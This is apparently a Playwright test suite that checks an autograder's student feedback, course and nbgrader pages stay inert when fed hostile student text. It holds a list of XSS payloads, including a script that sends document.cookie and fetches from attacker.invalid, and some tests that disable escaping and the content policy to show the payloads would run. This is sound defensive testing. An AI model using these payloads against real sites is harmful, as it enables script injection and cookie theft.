"""Pages in a real browser: whatever a student wrote, nothing of it runs, loads, or passes for something of ours."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from attacks.exam import Paper, set_small
from autograder.examine.versions import Versions
from autograder.export.nbgrader import autograded_notebook, gradebook
from autograder.model import Finding, Severity, Status, SubmittedFile
from autograder.pipeline import Grader
from autograder.report import course_page, feedback, rendering
from autograder.sandbox.outside import Sandbox
from tests.fixtures.gradebook import make_course
from tests.fixtures.report import assignment, check, question, record, rejected

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = next(
    (found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))), None
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        CHROMIUM is None, reason="needs Chromium: none of chromium, chromium-browser, google-chrome is installed"
    ),
]

KNN = assignment()
OWNED = "document.title='owned'"
PAYLOADS = (
    f"<script>{OWNED}</script>",
    f"</style></pre></code></textarea></title><script>{OWNED}</script>",
    f'<img src=x onerror="{OWNED}">',
    f'"><svg onload="{OWNED}">',
    f"' autofocus onfocus={OWNED} x='",
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f'[click](javascript:{OWNED}) <a href="javascript:{OWNED}">x</a>',
    f"<details open ontoggle={OWNED}><math><mtext></p><style><img src onerror={OWNED}>",
    f"$\\href{{javascript:{OWNED}}}{{x}}$ \\unicode{{<img src=x onerror={OWNED}>}}",
    "{{ ''.__class__ }} {% raw %} ${7*7} <!-- --> ]]> \u202e \ud800 \x00",
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{OWNED}</script>">',
    "<base href=http://attacker.invalid/><link rel=stylesheet href=//attacker.invalid/a.css><style>@import '//attacker.invalid/b.css';</style>",
    "<script>new Image().src='http://attacker.invalid/?'+document.cookie; fetch('http://attacker.invalid/f')</script>"
    "<img src=http://attacker.invalid/i.png><video poster=http://attacker.invalid/v><audio src=http://attacker.invalid/a autoplay>"
    "<object data=http://attacker.invalid/o></object><embed src=http://attacker.invalid/e><form action=http://attacker.invalid><input autofocus></form>"
    "<div style='background:url(http://attacker.invalid/c)'>x</div> ![m](http://attacker.invalid/m.png) [l][r]\n\n[r]: javascript:alert(1)",
)
EVERYTHING = "\n".join(PAYLOADS)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        opened = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def tab(browser: Any) -> Any:
    """A tab for pages of ours, one after the other: what a document did goes away with it, and a browser's tab is dear."""
    return browser.new_context().new_page()


@pytest.fixture
def course(tmp_path: Path) -> Path:
    return make_course(tmp_path)


class Visit:
    """What happened when a page was opened, in a tab that there is or in one of its own."""

    def __init__(self, browser: Any, path: Path, tab: Any = None) -> None:
        asked_for: list[str] = []
        heard = {
            "request": lambda request: asked_for.append(request.url),
            "requestfailed": lambda request: "csp" in (request.failure or "") and asked_for.remove(request.url),
        }
        self.page = tab or browser.new_context().new_page()
        for event, hear in heard.items():
            self.page.on(event, hear)
        self.page.goto(path.as_uri())
        self.page.wait_for_timeout(100)
        for event, hear in heard.items():
            self.page.remove_listener(event, hear)
        self.elsewhere = [url for url in asked_for if url != path.as_uri() and not url.startswith("data:")]


def hostile_record(text: str) -> Any:
    """Make a record in which every field that a student can reach holds the text."""
    failed = check("c", "Fact.", 5, Status.FAILED, message=text, hint="Look.", near_miss=text)
    asked = question("predict_labels", "The vote", failed, code=f"{text}\n'''{text}'''\n# {text}", line=2)
    said = replace(record().questions[3], code=text)
    finding = Finding("cell_added", Severity.NOTE, text, text)
    return record(
        name=text, group=text, source=text, questions=(asked, said), findings=(finding,), attempts=(text,), reason=text
    )


def saved(path: Path, html: str) -> Path:
    path.write_text(html, encoding="utf-8")
    return path


def test_the_payload_works_where_nothing_stops_it(browser: Any, tmp_path: Path) -> None:
    visit = Visit(browser, saved(tmp_path / "page.html", f"<!doctype html><title>mine</title><body>{PAYLOADS[2]}"))

    assert visit.page.title() == "owned"


@pytest.mark.parametrize("text", [*PAYLOADS, EVERYTHING])
def test_nothing_of_a_students_is_live_on_any_page(browser: Any, tab: Any, tmp_path: Path, text: str) -> None:
    hostile = hostile_record(text)
    pages = {
        "student": feedback.page(hostile, KNN),
        "rejected": feedback.page(replace(rejected(reason=text), name=text, source=text), KNN),
        "course": course_page.page([hostile, replace(rejected(student=text, reason=text), source=text)], KNN),
    }
    for name, html in pages.items():
        visit = Visit(browser, saved(tmp_path / f"{name}.html", html), tab)

        assert visit.page.title() != "owned"
        assert visit.elsewhere == []
        assert (
            visit.page.locator("script, iframe, img, object, embed, form, base, link, [onerror], [onload]").count() == 0
        )
        links = visit.page.eval_on_selector_all("a", "found => found.map(one => one.getAttribute('href'))")
        assert all(link.startswith(("#", "feedback/")) for link in links)


def test_a_formula_is_drawn_within_its_answer(browser: Any, tab: Any, tmp_path: Path) -> None:
    text = rf"$\rlap{{{'9' * 400}}}$ $\hspace{{90em}}9$"
    written = replace(record().questions[3], code=text)

    page = Visit(browser, saved(tmp_path / "page.html", feedback.page(record(questions=(written,)), KNN)), tab).page

    assert page.locator(".own math").count() == 2
    widths = page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
    assert widths[0] == widths[1]


def test_even_unescaped_nothing_runs_under_the_pages_own_policy(browser: Any, tmp_path: Path) -> None:
    html = feedback.page(record(), KNN).replace(
        "Kim Minji", PAYLOADS[0] + PAYLOADS[2] + '<img src="http://attacker.invalid/x.png">'
    )

    visit = Visit(browser, saved(tmp_path / "page.html", html))

    assert visit.page.title() != "owned"
    assert not any("attacker" in url for url in visit.elsewhere)


def test_without_escaping_and_policy_the_payload_would_run(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bare = rendering.environment("autograder.report")
    bare.autoescape, bare.finalize = False, None
    monkeypatch.setattr(rendering, "_pages", lambda _: bare)
    html = feedback.page(hostile_record(PAYLOADS[2]), KNN).replace("Content-Security-Policy", "X-None")

    visit = Visit(browser, saved(tmp_path / "page.html", html))

    assert visit.page.title() == "owned"


def nbgraders_feedback(root: Path) -> Path:
    """Let nbgrader make its own feedback page of our autograded notebook."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory

    gradebook.update(root, KNN, [(hostile_record(EVERYTHING), None)])
    converter = GenerateFeedback(coursedir=CourseDirectory(root=str(root), assignment_id="knn"), force=True)
    converter.log.setLevel("ERROR")
    converter.start()
    return next((root / "feedback").rglob("knn.html"))


def test_nbgraders_feedback_of_our_notebook_runs_nothing(browser: Any, course: Path) -> None:
    visit = Visit(browser, nbgraders_feedback(course))

    assert visit.page.title() != "owned"
    assert not any("attacker" in url for url in visit.elsewhere)
    assert visit.page.locator("#notebook [onerror], #notebook iframe, #notebook a[href^='javascript']").count() == 0
    assert "parent.document.title" in visit.page.inner_text("body")  # it is shown, as text


def test_nbgraders_feedback_would_run_an_answer_outside_its_fence(
    browser: Any, course: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(autograded_notebook, "written", lambda text, blank: PAYLOADS[2])

    visit = Visit(browser, nbgraders_feedback(course))

    assert visit.page.title() == "owned"


def formgraders_page(root: Path, path: Path) -> Path:
    """Render our autograded notebook as formgrader does for the person who marks it."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    gradebook.update(root, KNN, [(hostile_record(EVERYTHING), None)])
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": "knn", "notebook_id": "knn", "submission_id": "s", "index": 0, "total": 1, "base_url": "", "student": "1",
        "last_name": None, "first_name": None, "notebook_path": "x",
    }  # fmt: skip
    (notebook,) = (root / "autograded").rglob("knn.ipynb")
    return saved(path, HTMLExporter(config=config).from_filename(str(notebook), resources=resources)[0])


def test_formgraders_page_of_our_notebook_runs_nothing(browser: Any, course: Path, tmp_path: Path) -> None:
    visit = Visit(browser, formgraders_page(course, tmp_path / "page.html"))

    assert visit.page.title() != "owned"
    assert not any("attacker" in url for url in visit.elsewhere)
    assert "parent.document.title" in visit.page.content()


def test_formgraders_page_would_run_an_answer_outside_its_fence(
    browser: Any, course: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(autograded_notebook, "written", lambda text, blank: PAYLOADS[2])

    visit = Visit(browser, formgraders_page(course, tmp_path / "page.html"))

    assert visit.page.title() == "owned"


def test_the_pages_of_a_hostile_submission_run_nothing(browser: Any, tmp_path: Path, sandbox: Sandbox) -> None:
    """All the way: handed in, run, marked, shown."""
    text = "x = 0  # " + EVERYTHING.replace("\n", " ").replace("\ud800", "").replace("\x00", "")
    handed = Paper(
        {"double": f"{text}\nreturn x", "total": f"raise ValueError({text!r})"},
        fields={"name": PAYLOADS[0], "group": PAYLOADS[2]}, written={"why": EVERYTHING.replace("\ud800", "").replace("\x00", "")},
    )  # fmt: skip
    exam = set_small()
    made = (
        Grader(Versions(exam.assignment, exam.seed), sandbox)
        .grade(SubmittedFile(handed.zip(), f"{PAYLOADS[2]}.zip", "2022999999"))
        .record
    )
    assert (made.status, made.name) == ("graded", PAYLOADS[0])

    pages = {"student": feedback.page(made, exam.assignment), "course": course_page.page([made], exam.assignment)}
    for name, html in pages.items():
        visit = Visit(browser, saved(tmp_path / f"{name}.html", html))

        assert visit.page.title() != "owned"
        assert visit.elsewhere == []
        assert (
            visit.page.locator("script, iframe, img, object, embed, form, base, link, [onerror], [onload]").count() == 0
        )


def test_a_megabyte_of_code_opens_quickly_enough(browser: Any, tmp_path: Path) -> None:
    big = question(
        "q", "Q", check("c", "Fact.", 5, Status.FAILED, message="x" * 100_000), code="x = [" + "1, " * 350_000 + "]"
    )

    visit = Visit(browser, saved(tmp_path / "page.html", feedback.page(record(questions=(big,)), KNN)))

    assert visit.page.locator("h1").inner_text() == "Kim Minji"


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_no_page_scrolls_sideways(browser: Any, tab: Any, tmp_path: Path, width: int) -> None:
    long = record(name="W" * 90, questions=(*record().questions, replace(record().questions[0], title="V" * 120)))
    for name, html in (("student", feedback.page(long, KNN)), ("course", course_page.page([long, rejected()], KNN))):
        tab.set_viewport_size({"width": width, "height": 800})
        visit = Visit(browser, saved(tmp_path / f"{name}.html", html), tab)

        assert visit.page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_has_enough_contrast(browser: Any, tab: Any, tmp_path: Path, scheme: str) -> None:
    faint = """() => {
      const rgb = text => (text.match(/[\\d.]+/g) || []).map(Number);
      const light = ([r, g, b]) => [r, g, b].map(v => (v /= 255) <= .03928 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
        .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
      const ground = one => { for (; one; one = one.parentElement) { const c = rgb(getComputedStyle(one).backgroundColor);
        if (c.length === 3 || c[3] > 0) return c; } return [255, 255, 255]; };
      const found = [];
      for (const one of document.querySelectorAll('body *')) {
        if (![...one.childNodes].some(n => n.nodeType === 3 && n.data.trim()) || one.closest('svg')) continue;
        const [a, b] = [light(rgb(getComputedStyle(one).color)), light(ground(one))].sort((x, y) => y - x);
        if ((a + .05) / (b + .05) < 4.5) found.push([one.className, one.textContent.slice(0, 40), (a + .05) / (b + .05)]);
      }
      return found; }"""
    for name, html in (
        ("student", feedback.page(record(), KNN)),
        ("course", course_page.page([record(), rejected()], KNN)),
    ):
        tab.emulate_media(color_scheme=scheme)
        visit = Visit(browser, saved(tmp_path / f"{name}.html", html), tab)
        visit.page.eval_on_selector_all("details", "found => found.forEach(one => one.open = true)")

        assert json.dumps(visit.page.evaluate(faint)) == "[]"
